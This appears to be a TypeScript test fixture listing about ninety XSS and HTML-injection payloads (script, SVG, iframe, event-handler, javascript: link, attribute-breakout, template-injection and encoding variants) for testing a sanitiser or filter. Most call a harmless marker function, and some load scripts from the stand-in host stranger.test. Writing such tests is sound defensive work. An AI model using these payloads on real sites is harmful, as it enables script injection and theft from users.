import { isShort } from "./long-tests.ts";

// XSS and injection payloads. Each calls `quack()`, requests `/pwned` or requests stranger.test when it runs; none is
// longer than the shortest field that is tested.

const SCRIPTS = [
  `<script>quack()</script>`,
  `<script src=//stranger.test/q.js></script>`,
  `<script src="data:text/javascript,quack()"></script>`,
  `<script type=module>import("//stranger.test/q.js")</script>`,
  `<scr<script>ipt>quack()</scr</script>ipt>`,
  `<ScRiPt/x>quack()</sCrIpT>`,
  `<script><!--quack()//--></script>`,
  `<!--<script>quack()</script>-->`,
];

const CLOSINGS = [
  `</script><script>quack()</script>`,
  `</title><script>quack()</script>`,
  `</textarea><script>quack()</script>`,
  `</style><script>quack()</script>`,
  `</noscript><script>quack()</script>`,
  `</template><script>quack()</script>`,
  `--><script>quack()</script>`,
  `--!><img src=/pwned onerror=quack()>`,
  `]]><script>quack()</script>`,
  `"}]}</script><script>quack()</script>`,
];

const PICTURES = [
  `<img src=/pwned onerror=quack()>`,
  `<img src="/pwned" onerror="quack()">`,
  `<img/src=/pwned/onerror=quack()>`,
  `<img src=//stranger.test/q.png>`,
  `<img srcset="//stranger.test/q.png 1x">`,
  `<image src=/pwned onerror=quack()>`,
  `<img src=/pwned onerror=&#113;uack()>`,
  "<img src=`/pwned` onerror=`quack()`>",
  `<img """><script>quack()</script>">`,
  `<picture><source srcset=/pwned><img onerror=quack()></picture>`,
];

const DRAWINGS = [
  `<svg onload=quack()>`,
  `<svg><script>quack()</script></svg>`,
  `<svg><script>quack&lpar;&rpar;</script>`,
  `<svg><animate onbegin=quack() attributeName=x dur=1s>`,
  `<svg><set onbegin=quack() attributename=x>`,
  `<svg><a xlink:href="javascript:quack()"><text y=9>duck</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=quack() />#x">`,
  `<svg><foreignObject><img src=/pwned onerror=quack()>`,
  `<svg><style><img src=/pwned onerror=quack()></style>`,
  `<math><mtext><table><mglyph><style><img src=/pwned onerror=quack()>`,
  `<math href="javascript:quack()">duck</math>`,
];

const FRAMES = [
  `<iframe src="javascript:parent.quack()"></iframe>`,
  `<iframe srcdoc="<script>parent.quack()</script>"></iframe>`,
  `<iframe src=//stranger.test/></iframe>`,
  `<object data="javascript:parent.quack()"></object>`,
  `<object data="//stranger.test/"></object>`,
  `<embed src="//stranger.test/">`,
  `<portal src=//stranger.test/>`,
];

const HEADS = [
  `<base href="//stranger.test/">`,
  `<meta http-equiv=refresh content="0;url=//stranger.test/">`,
  `<meta http-equiv="refresh" content="0;javascript:quack()">`,
  `<link rel=stylesheet href=//stranger.test/q.css>`,
  `<link rel=preload as=image href=//stranger.test/q.png>`,
  `<style>@import"//stranger.test/q.css";</style>`,
  `<style>*{background:url(//stranger.test/q)}</style>`,
];

const HANDLERS = [
  `<body onload=quack()>`,
  `<details open ontoggle=quack()>duck</details>`,
  `<input autofocus onfocus=quack()>`,
  `<select autofocus onfocus=quack()>`,
  `<textarea autofocus onfocus=quack()>`,
  `<button form=x formaction=javascript:quack()>duck</button>`,
  `<form action="javascript:quack()"><input type=submit value=duck>`,
  `<video><source onerror=quack()></video>`,
  `<video src=/pwned onerror=quack()></video>`,
  `<audio src=/pwned onerror=quack()>`,
  `<marquee onstart=quack()>duck</marquee>`,
  `<div style="animation:spin 1s" onanimationstart=quack()>`,
  `<p style="background:url(//stranger.test/q)">duck</p>`,
  `<x contenteditable onfocus=quack() autofocus tabindex=1>`,
  `<div popover id=q onbeforetoggle=quack()></div>`,
];

const LINKS = [
  `<a href="javascript:quack()">duck</a>`,
  `<a href="java&#9;script:quack()">duck</a>`,
  `<a href="data:text/html,<script>quack()</script>">duck</a>`,
  `<a href=//stranger.test ping=//stranger.test/q>duck</a>`,
  `javascript:quack()`,
  `JaVaScRiPt:quack()`,
  `javascript://%0aquack()`,
  `data:text/html,<script>quack()</script>`,
  `vbscript:quack()`,
  `//stranger.test/%2e%2e`,
  `https://stranger.test/?duck`,
  `\\\\stranger.test\\q`,
];

const ATTRIBUTES = [
  `" onmouseover="quack()`,
  `' onmouseover='quack()`,
  `"><img src=/pwned onerror=quack()>`,
  `'><img src=/pwned onerror=quack()>`,
  "` onmouseover=quack() x=`",
  `" autofocus onfocus=quack() x="`,
  `" style="position:fixed;inset:0" onclick="quack()`,
];

const LANGUAGES = [
  `";quack();//`,
  `');quack();//`,
  "${quack()}",
  `{{constructor.constructor('quack()')()}}`,
  `{"__proto__":{"quack":1},"x":"</script>"}`,
  `[duck](javascript:quack())`,
  `<%= quack() %>`,
];

const SPELLINGS = [
  `&lt;script&gt;quack()&lt;/script&gt;`,
  `%3Cscript%3Equack()%3C/script%3E`,
  `\\u003cscript\\u003equack()\\u003c/script\\u003e`,
  `＜script＞quack()＜/script＞`,
  `\u202e<script>quack()</script>\u202c`,
  `<scr\u200bipt>quack()</scr\u200bipt>`,
];

export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...CLOSINGS,
  ...PICTURES,
  ...DRAWINGS,
  ...FRAMES,
  ...HEADS,
  ...HANDLERS,
  ...LINKS,
  ...ATTRIBUTES,
  ...LANGUAGES,
  ...SPELLINGS,
];

/** In `npm test` every fourth, which has some of each kind. */
export const TRIED_PAYLOADS: readonly string[] = isShort ? PAYLOADS.filter((_, place) => place % 4 === 0) : PAYLOADS;

export const LONGEST_PAYLOAD = 80;

/** The payloads that the word filter accepts: all without links. */
export const PAYLOADS_WITHOUT_LINKS: readonly string[] = PAYLOADS.filter(hasNoLink);
export const TRIED_WITHOUT_LINKS: readonly string[] = TRIED_PAYLOADS.filter(hasNoLink);

function hasNoLink(payload: string): boolean {
  return !/https?:|[a-z]:\/\//i.test(payload);
}

/** Packs the payloads into texts of a given length, one per line. */
export function packPayloads(length: number, payloads = PAYLOADS): string[] {
  const pages: string[] = [];
  for (const payload of payloads) {
    const last = pages.at(-1);
    if (last !== undefined && last.length + payload.length < length) pages[pages.length - 1] = `${last}\n${payload}`;
    else pages.push(payload);
  }
  return pages;
}
